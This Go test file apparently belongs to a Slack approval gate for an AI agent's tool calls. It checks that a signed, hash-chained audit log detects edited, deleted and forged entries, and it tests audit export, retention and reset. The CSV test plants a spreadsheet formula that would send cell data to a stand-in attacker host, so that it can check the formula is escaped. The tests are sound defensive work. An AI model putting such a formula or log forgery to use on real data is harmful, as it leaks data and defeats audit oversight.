package main

import (
	"context"
	"crypto/ed25519"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/redis/go-redis/v9"
	bolt "go.etcd.io/bbolt"

	"github.com/slackgate/slackgate/relay/relaytest"
	"github.com/slackgate/slackgate/store"
	"github.com/slackgate/slackgate/store/boltstore"
	"github.com/slackgate/slackgate/store/redisstore"
	"github.com/slackgate/slackgate/store/redisstore/redistest"
	"github.com/slackgate/slackgate/store/storetest"
)

// trailDay is when the recorded trail begins.
var trailDay = time.Date(2026, 11, 20, 0, 0, 0, 0, time.UTC)

// trail is an audit log written through real store transitions, sealed by
// checkpoints as a bot seals it, on one backend; the test then tampers
// with the store underneath, as someone with its credentials but without
// the signing key would.
type trail struct {
	be     backend
	env    []string // points slackgate at the store, with the verify key only
	dir    string   // bbolt: DATA_DIR
	url    string   // Redis
	prefix string
	key    ed25519.PrivateKey
}

func trailKey(t *testing.T) ed25519.PrivateKey {
	t.Helper()
	k, err := parseSigningKey(testKeys.sign)
	if err != nil {
		t.Fatal(err)
	}
	return k
}

// newTrail makes an empty store of backend be.
func newTrail(t *testing.T, be backend) *trail {
	t.Helper()
	tr := &trail{be: be, key: trailKey(t)}
	switch be {
	case boltBackend:
		tr.dir = t.TempDir()
		tr.env = []string{"DATA_DIR=" + tr.dir}
	case redisBackend, clusterBackend:
		tr.url = redistest.URL(t)
		if be == clusterBackend {
			tr.url = redistest.ClusterURL(t)
		}
		tr.prefix = testPrefix("audit")
		tr.env = []string{"REDIS_URL=" + tr.url, "REDIS_KEY_PREFIX=" + tr.prefix}
	}
	tr.env = append(tr.env, "DECISION_VERIFY_KEY="+testKeys.verify)
	return tr
}

// open opens the trail's store; the caller closes it.
func (tr *trail) open(t *testing.T, opts ...boltstore.Option) store.Store {
	t.Helper()
	var st store.Store
	var err error
	if tr.be == boltBackend {
		st, err = boltstore.Open(filepath.Join(tr.dir, "slackgate.db"), opts...)
	} else {
		st, err = redisstore.New(context.Background(), tr.url, redisstore.WithPrefix(tr.prefix))
	}
	if err != nil {
		t.Fatal(err)
	}
	return st
}

// record writes n requests, created and settled, in two sessions (C1 and
// C2), an hour apart from start, alternating tools, deciders and
// outcomes.
func record(t *testing.T, st store.Store, start time.Time, from, n int) {
	t.Helper()
	ctx := context.Background()
	for _, s := range []store.Session{
		{ID: "sess-a", Thread: store.MessageRef{Channel: "C1", TS: "1763596800.000100"}, State: store.SessionRunning},
		{ID: "sess-b", Thread: store.MessageRef{Channel: "C2", TS: "1763596800.000200"}, State: store.SessionRunning},
	} {
		if _, err := st.GetSession(ctx, s.ID); err != nil {
			if err := st.CreateSession(ctx, s); err != nil {
				t.Fatal(err)
			}
		}
	}
	for i := from; i < from+n; i++ {
		at := start.Add(time.Duration(i-from) * time.Hour)
		r := store.Request{ID: fmt.Sprintf("req-%d", i), SessionID: []string{"sess-a", "sess-b"}[i%2], CLIRequestID: fmt.Sprint("c", i),
			Kind: store.KindTool, ToolCall: store.ToolCall{ToolName: []string{"Bash", "Write", "Bash"}[i%3]}, CreatedAt: at}
		if err := st.CreateRequest(ctx, r); err != nil {
			t.Fatal(err)
		}
		d := store.Decision{Outcome: store.OutcomeAllow, By: []string{"U1", "U2"}[i%2], ByName: []string{"ann", "bo"}[i%2], At: at.Add(time.Minute)}
		if i%3 == 2 {
			d.Outcome, d.Message = store.OutcomeDeny, "not on prod"
		}
		if _, err := st.Decide(ctx, r.ID, d); err != nil {
			t.Fatal(err)
		}
	}
}

// sealAt signs a checkpoint of the entry at seq, as a bot does.
func (tr *trail) sealAt(t *testing.T, st store.Store, seq uint64) {
	t.Helper()
	ctx := context.Background()
	entries, err := st.AuditLog(ctx, "", 0)
	if err != nil {
		t.Fatal(err)
	}
	var prev uint64
	if last, err := st.LastAuditCheckpoint(ctx); err == nil {
		prev = last.Seq
	}
	for _, e := range entries {
		if e.Seq == seq {
			cp := store.AuditCheckpoint{Seq: e.Seq, Hash: e.Hash, At: e.At.Add(time.Second), Entry: e.ID}
			if err := store.SignAuditCheckpoint(tr.key, &cp); err != nil {
				t.Fatal(err)
			}
			if err := st.PutAuditCheckpoint(ctx, cp, prev); err != nil {
				t.Fatal(err)
			}
			return
		}
	}
	t.Fatalf("no entry at seq %d", seq)
}

// recordSealed records 12 requests (24 entries) sealed at 8 and 16.
func recordSealed(t *testing.T, be backend) *trail {
	t.Helper()
	tr := newTrail(t, be)
	st := tr.open(t)
	record(t, st, trailDay, 0, 12)
	tr.sealAt(t, st, 8)
	tr.sealAt(t, st, 16)
	if err := st.Close(); err != nil {
		t.Fatal(err)
	}
	return tr
}

// rawEntry is one entry as the backend keeps it.
type rawEntry struct {
	id    string
	entry store.AuditEntry
}

// entries reads the log as stored.
func (tr *trail) entries(t *testing.T) []rawEntry {
	t.Helper()
	st := tr.open(t)
	defer st.Close()
	es, err := st.AuditLog(context.Background(), "", 0)
	if err != nil {
		t.Fatal(err)
	}
	out := make([]rawEntry, len(es))
	for i, e := range es {
		out[i] = rawEntry{e.ID, e}
	}
	return out
}

func (tr *trail) redis(t *testing.T) (redis.UniversalClient, string) {
	t.Helper()
	st := tr.open(t)
	t.Cleanup(func() { _ = st.Close() })
	return st.(*redisstore.Store).Client(), "{" + tr.prefix + "}:audit" // keys.go's layout
}

// rewrite replaces the whole log with es, in order: what an attacker with
// the store's credentials does to change or insert an entry (a Redis
// stream's entries cannot be edited in place; bbolt's can). Entries keep
// their ids unless renumber (needed to insert: ids only grow).
func (tr *trail) rewrite(t *testing.T, es []rawEntry, renumber bool) []rawEntry {
	t.Helper()
	ctx := context.Background()
	for i := range es {
		if renumber {
			es[i].id = fmt.Sprintf("%020d", i+1)
			if tr.be != boltBackend {
				es[i].id = fmt.Sprintf("1-%d", i+1)
			}
		}
	}
	if tr.be != boltBackend {
		c, key := tr.redis(t)
		must(t, c.Del(ctx, key).Err())
		for _, r := range es {
			body, _, err := store.AuditBody(r.entry)
			must(t, err)
			must(t, c.XAdd(ctx, &redis.XAddArgs{Stream: key, ID: r.id,
				Values: []any{"a", string(body), "n", fmt.Sprint(r.entry.Seq), "p", r.entry.Prev, "h", r.entry.Hash}}).Err())
		}
		return es
	}
	tr.bolt(t, func(b *bolt.Bucket) {
		c := b.Cursor()
		for k, _ := c.First(); k != nil; k, _ = c.First() {
			must(t, c.Delete())
		}
		for i, r := range es {
			var n int
			_, _ = fmt.Sscanf(r.id, "%d", &n)
			if n == 0 {
				n = i + 1
			}
			r.entry.ID = r.id
			raw, err := json.Marshal(r.entry)
			must(t, err)
			must(t, b.Put(beKey(uint64(n)), raw))
		}
	})
	return es
}

// remove deletes one entry where it is kept: XDEL, or the bucket's key.
func (tr *trail) remove(t *testing.T, id string) {
	t.Helper()
	if tr.be != boltBackend {
		c, key := tr.redis(t)
		if n := c.XDel(context.Background(), key, id).Val(); n != 1 {
			t.Fatalf("XDEL %s removed %d entries", id, n)
		}
		return
	}
	var n uint64
	_, _ = fmt.Sscanf(id, "%d", &n)
	tr.bolt(t, func(b *bolt.Bucket) { must(t, b.Delete(beKey(n))) })
}

func (tr *trail) bolt(t *testing.T, fn func(*bolt.Bucket)) {
	t.Helper()
	db, err := bolt.Open(filepath.Join(tr.dir, "slackgate.db"), 0o600, nil)
	must(t, err)
	defer db.Close()
	must(t, db.Update(func(tx *bolt.Tx) error { fn(tx.Bucket([]byte("audit"))); return nil }))
}

func beKey(n uint64) []byte {
	k := make([]byte, 8)
	for i := 7; i >= 0; i-- {
		k[i], n = byte(n), n>>8
	}
	return k
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// verifyFails runs `audit verify` expecting it to fail, and returns what it
// printed and the error.
func verifyFails(t *testing.T, env []string, args ...string) string {
	t.Helper()
	out, err := runProgram(t, env, append([]string{"audit", "verify"}, args...)...)
	if err == nil {
		t.Fatalf("audit verify %q succeeded on a tampered log:\n%s", args, out)
	}
	return out + "\nerror: " + err.Error()
}

func requireAll(t *testing.T, got string, want ...string) {
	t.Helper()
	for _, w := range want {
		if !strings.Contains(got, w) {
			t.Errorf("output does not say %q:\n%s", w, got)
		}
	}
}

// TestAuditVerifyNamesWhatWasTamperedWith: on each backend, an entry's
// field changed, an entry deleted and one inserted, each right in the
// store, are named by `audit verify` with the checkpoint proving it; the
// untouched log verifies, with what is not sealed yet said plainly.
func TestAuditVerifyNamesWhatWasTamperedWith(t *testing.T) {
	for _, be := range []backend{boltBackend, redisBackend, clusterBackend} {
		t.Run(string(be), func(t *testing.T) {
			t.Run("Intact", func(t *testing.T) {
				tr := recordSealed(t, be)
				out, err := runProgram(t, tr.env, "audit", "verify")
				if err != nil {
					t.Fatalf("audit verify of an untouched log: %v\n%s", err, out)
				}
				requireAll(t, out, "verified 24 entries and 2 checkpoints, from the start of the chain to seq 24",
					"8 entries after the last checkpoint are unsealed")
			})
			t.Run("FieldChanged", func(t *testing.T) {
				tr := recordSealed(t, be)
				es := tr.entries(t)
				es[4].entry.By, es[4].entry.Outcome = "U0EVE", store.OutcomeAllow
				tr.rewrite(t, es, false)
				requireAll(t, verifyFails(t, tr.env), "BROKEN: entry "+es[4].id+" (seq 5) was changed", "proven by the checkpoint at seq 8")
			})
			t.Run("EntryDeleted", func(t *testing.T) {
				tr := recordSealed(t, be)
				es := tr.entries(t)
				tr.remove(t, es[5].id)
				requireAll(t, verifyFails(t, tr.env),
					"BROKEN: 1 entry (seq 6) was removed between "+es[4].id+" and "+es[6].id, "proven by the checkpoint at seq 8")
			})
			t.Run("EntryInserted", func(t *testing.T) {
				tr := recordSealed(t, be)
				es := tr.entries(t)
				// A forged approval, linked after entry 7 as the store
				// would have: the hash needs no key.
				forged := store.AuditEntry{At: es[6].entry.At, Action: store.AuditSettled, RequestID: "req-3", SessionID: "sess-b",
					Kind: store.KindTool, Tool: "Bash", Outcome: store.OutcomeAllow, By: "U0EVE", Channel: "C2", ThreadTS: es[6].entry.ThreadTS}
				d, err := store.AuditDigest(forged)
				must(t, err)
				forged.Seq, forged.Prev = 8, es[6].entry.Hash
				forged.Hash, err = store.AuditLinkHash(8, forged.Prev, d)
				must(t, err)
				es = tr.rewrite(t, append(es[:7:7], append([]rawEntry{{"", forged}}, es[7:]...)...), true)
				requireAll(t, verifyFails(t, tr.env), "BROKEN: entry "+es[7].id+" (seq 8) was inserted", "proven by the checkpoint at seq 8")
			})
		})
	}
}

// TestAuditVerifyNeedsOnlyTheVerifyKey: no key, no verdict; a checkpoint
// signed by another key is named forged.
func TestAuditVerifyNeedsOnlyTheVerifyKey(t *testing.T) {
	tr := recordSealed(t, boltBackend)
	if out, err := runProgram(t, []string{"DATA_DIR=" + tr.dir}, "audit", "verify"); err == nil || !strings.Contains(err.Error(), "DECISION_VERIFY_KEY") {
		t.Fatalf("audit verify without a key: %v\n%s", err, out)
	}
	other := append([]string{"DATA_DIR=" + tr.dir}, "DECISION_VERIFY_KEY="+otherKeys.verify)
	requireAll(t, verifyFails(t, other), "BROKEN: checkpoint at seq 8", "is forged")
}

// TestAuditVerifyFromAnEntry starts at the checkpoint before it.
func TestAuditVerifyFromAnEntry(t *testing.T) {
	tr := recordSealed(t, boltBackend)
	es := tr.entries(t)
	out, err := runProgram(t, tr.env, "audit", "verify", "-from", es[11].id)
	if err != nil {
		t.Fatalf("audit verify -from: %v\n%s", err, out)
	}
	requireAll(t, out, "verified 16 entries and 2 checkpoints, from the checkpoint at seq 8 to seq 24")
	if _, err := runProgram(t, tr.env, "audit", "verify", "-from", "00000000000000000999"); err == nil {
		t.Error("audit verify -from an id that is not there succeeded")
	}
}

// exportTo runs `audit export` into a file and returns its path and lines.
func exportTo(t *testing.T, env []string, args ...string) (string, []string) {
	t.Helper()
	out, err := runProgram(t, env, append([]string{"audit", "export"}, args...)...)
	if err != nil {
		t.Fatalf("audit export %q: %v\n%s", args, err, out)
	}
	path := filepath.Join(t.TempDir(), "export.jsonl")
	must(t, os.WriteFile(path, []byte(out), 0o600))
	return path, strings.Split(strings.TrimRight(out, "\n"), "\n")
}

// TestAuditExportOfAPeriodVerifiesOnItsOwn: an export of a period, or of
// one channel, carries the entries left out as links, and the checkpoints
// around it, so `audit verify -file` checks it with the key alone; an
// entry edited in the file is named.
func TestAuditExportOfAPeriodVerifiesOnItsOwn(t *testing.T) {
	for _, be := range []backend{boltBackend, redisBackend} {
		t.Run(string(be), func(t *testing.T) {
			tr := recordSealed(t, be)
			// Requests 3 to 5: created at 03:00-05:00, settled a minute after.
			path, lines := exportTo(t, tr.env, "-since", "2026-11-20T03:00:00Z", "-until", "2026-11-20T06:00:00Z")
			entries := 0
			for _, l := range lines {
				var r struct {
					Record    string `json:"record"`
					RequestID string `json:"request_id"`
				}
				must(t, json.Unmarshal([]byte(l), &r))
				if r.Record == "entry" {
					entries++
					if r.RequestID != "req-3" && r.RequestID != "req-4" && r.RequestID != "req-5" {
						t.Errorf("the export shows %s in full, outside the period", r.RequestID)
					}
				}
			}
			if entries != 6 || !strings.Contains(lines[0], `"record":"omitted"`) || !strings.Contains(lines[len(lines)-1], `"record":"checkpoint"`) {
				t.Fatalf("export = %d entries in full, first line %s, last %s; want 6, from the chain's start to the checkpoint after them", entries, lines[0], lines[len(lines)-1])
			}
			out, err := runProgram(t, []string{"DECISION_VERIFY_KEY=" + testKeys.verify}, "audit", "verify", "-file", path)
			if err != nil {
				t.Fatalf("audit verify -file of the export: %v\n%s", err, out)
			}
			// Entries 7 to 12, the checkpoint at 8 among them, end at the one at 16.
			requireAll(t, out, "verified 6 entries and 2 checkpoints, from the start of the chain to seq 16",
				"10 entries left out of the export verified by their link alone", "every entry is sealed")

			// One channel, from a checkpoint on: it starts at the one before.
			path, _ = exportTo(t, tr.env, "-channel", "C1", "-since", "2026-11-20T05:00:00Z")
			out, err = runProgram(t, []string{"DECISION_VERIFY_KEY=" + testKeys.verify}, "audit", "verify", "-file", path)
			if err != nil {
				t.Fatalf("audit verify -file of a channel's export: %v\n%s", err, out)
			}
			// Requests 6, 8 and 10: seq 13-14, 17-18, 21-22; the tail to 24 is not sealed.
			requireAll(t, out, "verified 6 entries and 2 checkpoints, from the checkpoint at seq 8 to seq 24",
				"10 entries left out", "8 entries after the last checkpoint are unsealed")

			edited := strings.Replace(readFile(t, path), `"by":"U1"`, `"by":"U0EVE"`, 1)
			must(t, os.WriteFile(path, []byte(edited), 0o600))
			requireAll(t, verifyFails(t, []string{"DECISION_VERIFY_KEY=" + testKeys.verify}, "-file", path), "was changed")
		})
	}
}

func readFile(t *testing.T, path string) string {
	t.Helper()
	b, err := os.ReadFile(path)
	must(t, err)
	return string(b)
}

// TestAuditExportCSVIsWhatASpreadsheetExpects: the header, UTC times, the
// thread link, the rule or grant that decided (empty for a person), and a
// cell that would run as a formula kept as text.
func TestAuditExportCSVIsWhatASpreadsheetExpects(t *testing.T) {
	tr := newTrail(t, boltBackend)
	st := tr.open(t)
	record(t, st, trailDay, 0, 3)
	must(t, st.AppendAudit(context.Background(), store.AuditEntry{Action: store.AuditToolRan, SessionID: "sess-a", Tool: "Bash", ReportedBy: "api:laptop",
		Result: store.ToolSucceeded, Message: `=HYPERLINK("https://evil.example/?"&A1,"ok")`, At: trailDay.Add(5 * time.Hour)}))
	for i, d := range []store.Decision{
		{Outcome: store.OutcomeDeny, Rule: "no-pipe-to-shell", PolicyDigest: strings.Repeat("ab", 32)},
		{Outcome: store.OutcomeAllow, Grant: "g1"},
	} {
		at := trailDay.Add(time.Duration(6+i) * time.Hour)
		r := store.Request{ID: fmt.Sprint("req-by-", i), SessionID: "sess-a", CLIRequestID: fmt.Sprint("cb", i), Kind: store.KindTool, ToolCall: store.ToolCall{ToolName: "Bash"}, CreatedAt: at}
		must(t, st.CreateRequest(context.Background(), r))
		d.At = at.Add(time.Minute)
		_, err := st.Decide(context.Background(), r.ID, d)
		must(t, err)
	}
	must(t, st.Close())
	out, err := runProgram(t, tr.env, "audit", "export", "-format", "csv", "-slack-url", "https://acme.slack.com/", "-channel", "C1")
	if err != nil {
		t.Fatalf("audit export -format csv: %v\n%s", err, out)
	}
	rows, err := csvRows(out)
	must(t, err)
	want := []string{"Time (UTC)", "Who", "Who (name)", "Action", "Tool", "Input", "Detail", "Approvers", "Channel", "Outcome", "Rule",
		"Working directory", "Thread link", "Request", "Session", "Seq", "Entry", "Input SHA-256"}
	if strings.Join(rows[0], "|") != strings.Join(want, "|") {
		t.Fatalf("header = %q, want %q", rows[0], want)
	}
	// C1 holds requests 0 and 2 (created, settled), the tool that ran and
	// the two requests a rule and a grant settled.
	if len(rows) != 10 {
		t.Fatalf("%d rows, want the header and 9: %q", len(rows), rows)
	}
	settled := rows[2]
	if got := strings.Join(settled[:13], "|"); got != "2026-11-20 00:01:00|U1|ann|settled|Bash||||C1|allow|||https://acme.slack.com/archives/C1/p1763596800000100" {
		t.Errorf("row = %q", got)
	}
	if denied := rows[4]; denied[6] != "not on prod" || denied[9] != "deny" {
		t.Errorf("a denial's row = %q", denied)
	}
	if ran := rows[5]; ran[6] != `'=HYPERLINK("https://evil.example/?"&A1,"ok")` {
		t.Errorf("a formula from a tool's input reached the sheet as %q; want it prefixed with ' so it stays text", ran[6])
	}
	if byRule, byGrant := rows[7][10], rows[9][10]; byRule != "no-pipe-to-shell" || byGrant != "grant g1" {
		t.Errorf("rule column = %q and %q, want the policy rule and the grant", byRule, byGrant)
	}
}

func csvRows(s string) ([][]string, error) {
	return csv.NewReader(strings.NewReader(s)).ReadAll()
}

// TestAuditRetentionKeepsWhatVerifies: after retention cuts the log at a
// checkpoint, the rest still verifies from it.
func TestAuditRetentionKeepsWhatVerifies(t *testing.T) {
	tr := newTrail(t, boltBackend)
	clock := storetest.NewClock(trailDay)
	st := tr.open(t, boltstore.WithClock(clock), boltstore.WithSweepEvery(0), boltstore.WithAuditRetention(24*time.Hour))
	ctx := context.Background()
	record(t, st, trailDay, 0, 6)
	tr.sealAt(t, st, 8)
	must(t, st.(*boltstore.Store).Sweep(ctx)) // marks where the log stands
	clock.Advance(25 * time.Hour)
	record(t, st, clock.Now(), 6, 2)
	must(t, st.(*boltstore.Store).Sweep(ctx))
	must(t, st.Close())
	out, err := runProgram(t, tr.env, "audit", "verify")
	if err != nil {
		t.Fatalf("audit verify after retention: %v\n%s", err, out)
	}
	requireAll(t, out, "verified 8 entries and 1 checkpoints, from the checkpoint at seq 8 to seq 16")
}

// TestAuditArgumentsAreChecked: bad flags of verify and export say why.
func TestAuditArgumentsAreChecked(t *testing.T) {
	env := []string{"DATA_DIR=" + t.TempDir(), "DECISION_VERIFY_KEY=" + testKeys.verify}
	for _, args := range [][]string{
		{"verify", "extra"}, {"verify", "-from", "x", "-file", "y"}, {"verify", "-file", "/nonexistent/export.jsonl"},
		{"export", "-format", "xml"}, {"export", "-outcome", "maybe"}, {"export", "-since", "yesterday"},
		{"export", "-since", "2026-11-02", "-until", "2026-11-01"}, {"export", "extra"},
		{"verify", "-expect", "12"}, {"verify", "-expect", "12:abc"}, {"verify", "-expect", "0:" + strings.Repeat("a", 64)},
		{"verify", "-expect", "12:" + strings.Repeat("A", 64)},
		{"reset"}, {"reset", "-reason", " "}, {"reset", "-reason", strings.Repeat("x", 501)}, {"reset", "-reason", "why", "extra"},
		{"reset", "-reason", "why", "-by", ""}, {"reset", "-reason", "no signing key here"},
	} {
		if out, err := runProgram(t, env, append([]string{"audit"}, args...)...); err == nil {
			t.Errorf("audit %q succeeded:\n%s", args, out)
		}
	}
}

// TestE2EApprovalsAreSealedAndVerify: with a configured key pair (the
// default for a bot), what a real session records is sealed by the bot
// at the latest when it stops, names the thread it happened in, and
// verifies with the verify key alone.
func TestE2EApprovalsAreSealedAndVerify(t *testing.T) {
	for _, be := range []backend{boltBackend, redisBackend} {
		t.Run(string(be), func(t *testing.T) {
			t.Parallel()
			keys := func(c *Config) { c.DecisionSigningKey, c.DecisionVerifyKey = testKeys.sign, testKeys.verify }
			a := startApp(t, options{backend: be, approvers: lee, configure: keys},
				relaytest.ToolUse("toolu_1", "Bash", bash("echo shipped > deploy.txt", "Deploy")),
				relaytest.Text("Deployed."))
			thread := a.mention("please deploy")
			card := a.card(thread, "echo shipped")
			a.click(lee, card.Ref(), "Approve")
			if res := a.toolResult("toolu_1"); res.IsError {
				t.Fatalf("the model got an error result: %q", res.Content)
			}
			a.settled(card.Ref(), "Approved")
			a.stop()

			env := []string{"DECISION_VERIFY_KEY=" + testKeys.verify, "DATA_DIR=" + a.cfg.DataDir}
			if a.cfg.RedisURL != "" {
				env = append(env, "REDIS_URL="+a.cfg.RedisURL, "REDIS_KEY_PREFIX="+a.cfg.RedisKeyPrefix)
			}
			out, err := runProgram(t, env, "audit", "verify")
			if err != nil {
				t.Fatalf("audit verify: %v\n%s", err, out)
			}
			// One checkpoint at shutdown, or two when the sealer's first
			// look came between the request's creation and its settlement.
			if !regexp.MustCompile(`verified 2 entries and [12] checkpoints`).MatchString(out) {
				t.Errorf("audit verify did not verify the 2 entries:\n%s", out)
			}
			requireAll(t, out, "every entry is sealed")
			csvOut, err := runProgram(t, env, "audit", "export", "-format", "csv", "-user", lee)
			if err != nil {
				t.Fatal(err)
			}
			rows, err := csvRows(csvOut)
			must(t, err)
			if len(rows) != 2 || rows[1][1] != lee || rows[1][9] != "allow" || rows[1][8] != general || rows[1][5] != "echo shipped > deploy.txt" ||
				rows[1][11] != a.workdir || !strings.HasSuffix(rows[1][12], "/archives/"+general+"/p"+strings.Replace(thread, ".", "", 1)) {
				t.Errorf("the approval's row = %q, want lee's allow in %s linking to thread %s", rows[1:], general, thread)
			}
		})
	}
}

// TestAuditExportSaysHowFarItIsOnStderr: a long export reports progress
// on stderr; stdout stays the export alone.
func TestAuditExportSaysHowFarItIsOnStderr(t *testing.T) {
	tr := newTrail(t, boltBackend)
	st := tr.open(t, boltstore.WithNoSync())
	ctx := context.Background()
	for i := range progressEvery + 1 {
		tool := "Bash"
		if i == progressEvery {
			tool = "Write"
		}
		must(t, st.AppendAudit(ctx, store.AuditEntry{Action: store.AuditToolRan, SessionID: "s", Tool: tool, ReportedBy: "api:laptop", Result: store.ToolSucceeded}))
	}
	must(t, st.Close())
	var stdout, stderr strings.Builder
	p := program{environ: tr.env, stdout: &stdout, stderr: &stderr}
	if err := p.run(ctx, []string{"audit", "export", "-tool", "Write"}); err != nil {
		t.Fatalf("audit export: %v\n%s", err, stderr.String())
	}
	if want := fmt.Sprintf("audit export: %d entries read, 0 exported\n", progressEvery); stderr.String() != want {
		t.Errorf("stderr = %q, want %q", stderr.String(), want)
	}
	lines := strings.Split(strings.TrimSpace(stdout.String()), "\n")
	if len(lines) != progressEvery+1 || !strings.Contains(lines[len(lines)-1], `"tool":"Write"`) {
		t.Errorf("stdout = %d lines ending %q; want the export alone: %d links and the entry", len(lines), lines[len(lines)-1], progressEvery)
	}
	// Never sealed (no bot ran): the export checks as a chain, but no
	// signature says it is the one the bots wrote, so verify passes it
	// only when told the log was never sealed.
	path := filepath.Join(t.TempDir(), "export.jsonl")
	must(t, os.WriteFile(path, []byte(stdout.String()), 0o600))
	requireAll(t, verifyFails(t, []string{"DECISION_VERIFY_KEY=" + testKeys.verify}, "-file", path), "10001 entries and no checkpoint", "-allow-unsealed")
	out, err := runProgram(t, []string{"DECISION_VERIFY_KEY=" + testKeys.verify}, "audit", "verify", "-allow-unsealed", "-file", path)
	if err != nil {
		t.Fatalf("audit verify -file: %v\n%s", err, out)
	}
	requireAll(t, out, "verified 1 entries and 0 checkpoints", fmt.Sprintf("%d entries left out", progressEvery), "10001 entries after the last checkpoint are unsealed")
}

// TestAuditResetVouchesOnlyForAChainThatLinks: a reset over a chain an
// entry of which was changed acknowledges the break, and verify checks
// the log from it on, noting the break; a reset over a chain that links
// vouches for it, so an entry changed before it afterwards still fails.
func TestAuditResetVouchesOnlyForAChainThatLinks(t *testing.T) {
	reset := func(t *testing.T, tr *trail) string {
		t.Helper()
		env := append(slices.Clone(tr.env), "DECISION_SIGNING_KEY="+testKeys.sign)
		out, err := runProgram(t, env, "audit", "reset", "-reason", "checked by lee", "-by", "lee")
		if err != nil {
			t.Fatalf("audit reset: %v\n%s", err, out)
		}
		return out
	}
	t.Run("OverABrokenChain", func(t *testing.T) {
		tr := recordSealed(t, boltBackend)
		es := tr.entries(t)
		es[4].entry.By = "U0EVE"
		tr.rewrite(t, es, false)
		verifyFails(t, tr.env)
		requireAll(t, reset(t, tr), "the chain before it does not hold")
		out, err := runProgram(t, tr.env, "audit", "verify")
		if err != nil {
			t.Fatalf("audit verify after the reset: %v\n%s", err, out)
		}
		requireAll(t, out, "note: before the reset at seq 25 the log does not hold (entry "+es[4].id+" (seq 5) was changed",
			"the reset acknowledged it", "an operator reset the chain at seq 25", "superseding the checkpoint at seq 16")
		st := tr.open(t)
		defer st.Close()
		all, err := st.AuditLog(context.Background(), "", 0)
		must(t, err)
		if last := all[len(all)-1]; last.Action != store.AuditChainReset || last.By != "operator:lee" || !strings.Contains(last.Message, "checked by lee") {
			t.Errorf("the reset's entry = %+v", last)
		}
	})
	t.Run("OverAChainThatLinks", func(t *testing.T) {
		tr := recordSealed(t, boltBackend)
		requireAll(t, reset(t, tr), "the chain up to it links from its start")
		if out, err := runProgram(t, tr.env, "audit", "verify"); err != nil {
			t.Fatalf("audit verify after the reset: %v\n%s", err, out)
		}
		es := tr.entries(t)
		es[4].entry.By = "U0EVE"
		tr.rewrite(t, es, false)
		requireAll(t, verifyFails(t, tr.env), "BROKEN: entry "+es[4].id+" (seq 5) was changed", "proven by the checkpoint at seq 25")
	})
}
